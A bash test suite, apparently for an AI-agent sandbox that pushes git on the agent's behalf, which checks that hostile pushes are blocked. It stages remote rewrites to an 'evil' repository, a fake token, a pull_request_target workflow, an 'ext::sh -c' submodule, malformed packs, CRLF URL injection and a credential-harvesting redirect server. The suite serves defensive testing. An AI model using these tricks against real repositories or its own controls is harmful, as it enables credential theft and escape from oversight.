# SPDX-License-Identifier: MIT
# shellcheck shell=bash disable=SC2034,SC2119,SC2154
# GIT, the part about pushes: the host pushes for the agent (--allow-git-push), and what it must not push
# must not arrive, nor a credential where it does not belong.

# The project with a remote at a path, another that it must not reach, and the hostile client.
before_push() {
  local name
  RUN_LIMITS=(--allow-git-push)
  export GIT_CONFIG_NOSYSTEM=1
  for name in victim evil; do
    git init -q --bare -b main "$WORK/$name.git"
  done
  git -C "$PROJECT" init -q -b main
  echo one >"$PROJECT/file"
  git -C "$PROJECT" add file
  git -C "$PROJECT" -c user.name=T -c user.email=t@example.org commit -qm first
  git -C "$PROJECT" remote add origin "$WORK/victim.git"
  git -C "$PROJECT" push -q origin main
  git -C "$PROJECT" rev-parse main >"$WORK/was"
  cp "$CLAUDEFS_SOURCE/tests/push/raw_push.py" "$PROJECT/.git/"
}
inside_git() {
  cd "$W" && git config user.name A && git config user.email a@example.org
}
# Nothing has come to the remote, and nothing to the other.
nothing_came() {
  local now
  now=$(git -C "$WORK/victim.git" for-each-ref --format='%(refname) %(objectname)')
  [ "$now" = "refs/heads/main $(cat "$WORK/was")" ] || { echo "was pushed: $now"; return 1; }
  [ -z "$(git -C "$WORK/evil.git" for-each-ref)" ] || { echo 'the other remote has it'; return 1; }
}
# What was asked for is told.
told() {
  (cd "$PROJECT" && "$REVIEW_PROGRAM" status) >"$WORK/told" 2>&1
  "$OUTPUT_CHECK" safe <"$WORK/told" || return
  grep -q 'push:[0-9]* *refused' "$WORK/told" || { echo "status tells nothing: $(head -n 20 "$WORK/told")"; return 1; }
}

# The remote is changed after it was recorded: by the file, by a rewrite, by its name at the port.
before_GIT_020() { before_push; echo "$WORK/evil.git" >"$PROJECT/.git/evil"; }
attack_GIT_020() {
  local evil
  inside_git && evil=$(cat .git/evil) && echo two >>file && git commit -qam two
  sed -i "s|url = .*|url = $evil|" .git/config
  try timeout 20 git push origin main
  printf '[url "git://127.0.0.1:9418/evil"]\n\tpushInsteadOf = %s\n[remote "evil"]\n\turl = %s\n' "$evil" "$evil" >>.git/config
  try timeout 20 git push evil main
  git rev-list --objects main | git pack-objects -q --stdout >.git/pack
  try timeout 20 python3 .git/raw_push.py evil "$(git rev-parse main)" refs/heads/main .git/pack
  try timeout 20 python3 .git/raw_push.py ../../evil.git "$(git rev-parse main)" refs/heads/main .git/pack
}
expect_GIT_020() { nothing_came; }

before_GIT_025() { before_push; }
attack_GIT_025() {
  inside_git
  git checkout -qb secret && printf 'k = "ghp_%036d"\n' 1 >conf && git add conf && git commit -qm conf &&
    git rm -q conf && git commit -qm 'not any more'
  try timeout 20 git push origin secret
  git checkout -q main && git checkout -qb flow && mkdir -p .github/workflows &&
    echo 'on: pull_request_target' >.github/workflows/x.yml && git add .github && git commit -qm flow
  try timeout 20 git push origin flow flow:main
  git checkout -q main && git checkout -qb modules && printf '[submodule "x"]\n\tpath = x\n\turl = ext::sh -c evil\n' >.gitmodules &&
    git add .gitmodules && git commit -qm modules
  try timeout 20 git push origin modules:main
}
expect_GIT_025() { nothing_came && told; }

before_GIT_026() { before_push; }
attack_GIT_026() {
  local main zero=0000000000000000000000000000000000000000 name
  inside_git
  main=$(git rev-parse main)
  head -c 5000 /dev/urandom >.git/pack
  try timeout 20 python3 .git/raw_push.py origin "$main" refs/heads/a .git/pack
  printf 'PACK\0\0\0\2\377\377\377\377' >.git/pack
  try timeout 20 python3 .git/raw_push.py origin "$main" refs/heads/a .git/pack
  echo "$main" | git pack-objects -q --stdout >.git/pack
  try timeout 20 python3 .git/raw_push.py origin "$main" refs/heads/a .git/pack
  try timeout 20 python3 .git/raw_push.py origin $zero refs/heads/main
  try timeout 20 python3 .git/raw_push.py --bytes "$(printf '00a0%0156d' 1)"
  for name in .git .GIT 'git~1' ..; do
    git branch -f evil "$(git commit-tree -p main -m evil \
      "$(printf '040000 tree %s\t%s\n' "$(git rev-parse 'main^{tree}')" "$name" | git mktree)")" && try timeout 20 git push origin evil
  done
  # A thousand directories deep.
  python3 - >.git/deep <<'END'
import subprocess
tree = subprocess.run(["git", "rev-parse", "main^{tree}"], stdout=subprocess.PIPE, check=True).stdout.decode().strip()
for _ in range(150):
    tree = subprocess.run(["git", "mktree"], input=f"040000 tree {tree}\td\n".encode(), stdout=subprocess.PIPE, check=True).stdout.decode().strip()
print(tree)
END
  git branch -f evil "$(git commit-tree -p main -m deep "$(cat .git/deep)")" && try timeout 20 git push origin evil
}
expect_GIT_026() { nothing_came && told; }

# A server that sends the host on to another one, whose credential it would like.
before_GIT_028() {
  before_push
  python3 "$CLAUDEFS_SOURCE/tests/push/server.py" "$WORK" x-access-token CANARY_PASSWORD "$WORK/port" "$WORK/requests" &
  stop_at_end $!
  local i
  for ((i = 0; i < 200; i++)); do
    [ -s "$WORK/port" ] && break
    sleep 0.05
  done
  printf '[remote "sent-on"]\n\turl = http://127.0.0.1:%s/offsite/victim.git\n' "$(cat "$WORK/port")" >>"$PROJECT/.git/config"
  mkdir -p "$WORK/bin"
  printf '#!/bin/sh\necho CANARY_PASSWORD\n' >"$WORK/bin/gh"
  chmod 755 "$WORK/bin/gh"
  PATH=$WORK/bin:$PATH
}
attack_GIT_028() {
  inside_git && echo two >>file && git commit -qam two
  try timeout 20 git push sent-on main
  try timeout 20 git push "git://127.0.0.1:9418/sent-on%0d%0ahost=evil" main
}
expect_GIT_028() {
  grep -q offsite "$WORK/requests" || { echo 'the server was not asked'; return 1; }
  ! grep -q ' auth' "$WORK/requests" || { echo 'a credential went on'; return 1; }
  nothing_came
}

push_attacks() {
  attack GIT-020 run
  attack GIT-025 run
  attack GIT-026 run
  attack GIT-028 run
}

# With the person's rules opened, the workflow goes.
before_GIT_C25() {
  before_push
  mkdir -p "$HOME/.config/claudefs"
  echo '{"allow_paths": [".github/workflows/**"]}' >"$HOME/.config/claudefs/push.json"
}
attack_GIT_C25() { attack_GIT_025; }
expect_GIT_C25() { nothing_came; }

push_control() {
  must_be_unsafe GIT-C25 run 'was pushed'
}
